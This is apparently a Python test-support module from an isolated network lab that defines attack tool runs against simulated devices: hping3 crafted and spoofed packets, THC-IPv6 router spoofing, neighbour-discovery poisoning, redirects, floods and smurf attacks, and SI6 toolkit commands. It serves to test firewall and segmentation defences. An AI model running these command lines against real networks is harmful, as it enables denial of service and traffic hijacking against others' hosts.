# SPDX-License-Identifier: GPL-2.0
"""Attack tools as they are run against the lab, from two places. Shared by tools_test.py,
which runs them against the programs, and tools_control_test.py, where there are none."""
import dataclasses

from rogue_shots import GW6, GW_LL, Place
from ztlab.topology import address, mac

ATTACKER = Place("cam2", "cam2", "eth0", mac("cam2"), address("cam2", 4), "from-device")
UPLINK = Place("uplink", "vms", "eth9", "02:00:00:00:20:c8", "10.20.0.200", "to-device")
EARS = [("vms", "eth0"), ("cam1", "eth0"), ("plc", "eth0"), ("sensor", "eth0"), ("inet", "eth0"),
        ("mqtt", "eth0"), ("router", "br0")]
VMS4, VMS6, CAM4, CAM6 = (address(h, v) for h in ("vms", "cam1") for v in (4, 6))
WEB = {(a, "tcp", 80) for a in (VMS4, VMS6)}
ALL = "ff02::1"


@dataclasses.dataclass(frozen=True)
class Tool:
    name: str
    argv: tuple
    kind: str
    seconds: float = 1.0


def hping(name, words, kind="out", count=8):
    return Tool(f"hping3 {name}", ("hping3", "-q", "-n", "-c", str(count), "-i", "u2000",
                                   *words.split()), kind)


def cases(tool, last, words, target, kind="out", seconds=1.0):
    """One run for each of a tool's numbered cases, all at once; told as one tool."""
    return [Tool(f"{tool}", (f"atk6-{tool}", *words.split(), "eth0", *target.split(), str(n)), kind,
                 seconds) for n in range(1, last + 1)]


def thc(name, words, kind="link", seconds=1.0):
    return Tool(name, (f"atk6-{name}", *words.split()), kind, seconds)


def flood(name, words):
    return thc(f"flood_{name}", words, "flood", 0.5)


def kit(name, words, kind, seconds=1.0):
    return Tool(f"{name} {words}", (name, "-i", "eth0", *words.split()), kind, seconds)


OUT = [
    hping("SYN FIN", f"-S -F -p 80 {VMS4}"), hping("URG PSH", f"-U -P -p 80 {VMS4}"),
    hping("no flags", f"-p 80 {VMS4}"), hping("FIN PSH URG", f"-F -P -U -p 80 {VMS4}"),
    hping("SYN RST", f"-S -R -p 80 {VMS4}"), hping("SYN ACK", f"-S -A -p 80 {VMS4}"),
    hping("denied port", f"-S -p 81 {VMS4}"), hping("ACK, denied port", f"-A -p 81 {VMS4}"),
    hping("random source", f"-S -p 80 --rand-source {VMS4}"),
    hping("camera 1's address", f"-S -p 80 -a {CAM4} {VMS4}"),
    hping("the router's address", f"-S -p 80 -a 10.20.0.1 {CAM4}"),
    hping("UDP", f"-2 -p 53 {VMS4}"), hping("UDP from port 53", f"-2 -s 53 -k -p 53 {VMS4}"),
    hping("echo", f"-1 {VMS4}"), hping("timestamp", f"-1 -C 13 {VMS4}"),
    hping("address mask", f"-1 -C 17 {VMS4}"), hping("redirect", f"-1 -C 5 -K 1 {VMS4}"),
    hping("unreachable", f"-1 -C 3 -K 1 {VMS4}"), hping("GRE", f"-0 -H 47 -d 40 {CAM4}"),
    hping("protocol 255", f"-0 -H 255 {VMS4}"),
    hping("fragments", f"-S -p 80 -f -d 64 {VMS4}"), hping("tiny", f"-S -p 80 -m 8 -d 64 {VMS4}"),
    hping("a later fragment", f"-S -p 80 -g 64 {VMS4}"),
    hping("record route", f"-S -p 80 -G {VMS4}"), hping("to camera 1", f"-S -p 554 {CAM4}"),
    *cases("firewall6", 38, "", f"{VMS6} 81"), *cases("firewall6", 38, "-u", f"{VMS6} 81"),
    *cases("implementation6", 54, "-p", VMS6), *cases("denial6", 7, "", VMS6),
    thc("fragmentation6", f"-p eth0 {VMS6}", "out", 3), *[thc("fuzz_ip6", f"-{n} eth0 {VMS6}", "out", 1.5) for n in "127"],
    thc("thcsyn6", f"-r -i 500 eth0 {VMS6} 80", "out"),
    thc("thcsyn6", f"-f -d -i 500 eth0 {VMS6} 81", "out"),
    thc("thcsyn6", f"-S -i 500 eth0 {VMS6} 80", "out"),
    kit("tcp6", f"-a 80 -X SF -d {VMS6}", "out"), kit("tcp6", f"-a 81 -X S -d {VMS6}", "out"),
    kit("tcp6", f"-a 80 -X X -u 8 -d {VMS6}", "out"), kit("udp6", f"-a 80 -d {VMS6}", "out"),
    kit("udp6", f"-a 81 -y 256 -d {VMS6}", "out"), kit("icmp6", f"-t 1 -d {VMS6}", "out"),
    kit("icmp6", f"-t 2 -d {VMS6}", "out"), kit("ni6", f"-d {VMS6}", "out"),
    kit("frag6", f"--frag-reass-policy -d {VMS6}", "out", 2),
]
WEBBED = [
    hping("SYN", f"-S -p 80 {VMS4}", "web"), hping("SYN, ECN bits", f"-S -X -Y -p 80 {VMS4}", "web"),
    hping("wrong checksum", f"-S -b -p 80 {VMS4}", "web"),
    hping("every port", f"-S -p ++70 {VMS4}", "web", 30), hping("ACK", f"-A -p 80 {VMS4}", "web"),
    *cases("firewall6", 38, "", f"{VMS6} 80", "web"),
    thc("exploit6", f"eth0 {VMS6}", "web", 2),
    thc("thcsyn6", f"-i 2000 eth0 {VMS6} 80", "web"),
    kit("tcp6", f"-a 80 -X S -d {VMS6}", "web"),
]
LINK = [
    thc("fake_router26", "-A fd66::/64 -n 3 -i 1 eth0"), thc("fake_router6", "eth0 fd66::/64"),
    thc("kill_router6", f"eth0 {GW_LL}"), thc("parasite6", "-l eth0"),
    thc("fake_advertise6", f"-n 3 -w 1 eth0 {GW6} {CAM6}"),
    thc("fake_solicitate6", f"eth0 {GW6} {CAM6}"),
    thc("redir6", f"eth0 {CAM6} {VMS6} {GW_LL} fe80::bad {mac('cam2')}"),
    thc("toobig6", f"-u eth0 {CAM6} {VMS6} 1280"),
    thc("fake_mld26", "-l eth0 query"), thc("fake_mldrouter6", "-l eth0 advertise"),
    flood("router26", "eth0"), flood("router6", "eth0"), flood("advertise6", "eth0"),
    flood("solicitate6", f"eth0 {CAM6}"), flood("redir6", f"eth0 {CAM6}"),
    flood("mld6", "eth0"), flood("mld26", "eth0"), flood("mldrouter6", "eth0"),
    flood("rs6", "eth0"), flood("unreach6", f"eth0 {CAM6}"), thc("smurf6", f"eth0 {CAM6}", "flood", 0.5),
    thc("rsmurf6", f"eth0 {CAM6}", "flood", 0.5), thc("ndpexhaust26", "eth0 fd20::/64", "flood", 0.5),
    kit("ra6", f"-s fe80::bad -P fd67::/64#LA -e -d {ALL}", "link"),
    kit("na6", f"-t {GW6} -o -e -d {CAM6}", "link"), kit("ns6", f"-t {CAM6} -s {GW6} -e -d {CAM6}",
                                                         "link"),
    kit("rd6", f"-s {GW_LL} -r {VMS6} -t fe80::bad -d {CAM6}", "link"),
]


def start(lab, tool, place, seconds=0):
    argv = [place.ifname if w == "eth0" else w for w in tool.argv]
    return lab.host[place.host].spawn("timeout", "-s", "INT", "-k", "1",
                                            str(seconds or tool.seconds), *argv,
                                            log=f"{lab.dir}/tools.log")


def prod(victim):
    """Camera 1 asks for its router: what parasite6 waits for."""
    victim.host.run("sh", "-c", f"ip -6 neigh flush dev eth0; ping -n -c1 -W1 {GW6}", check=False)
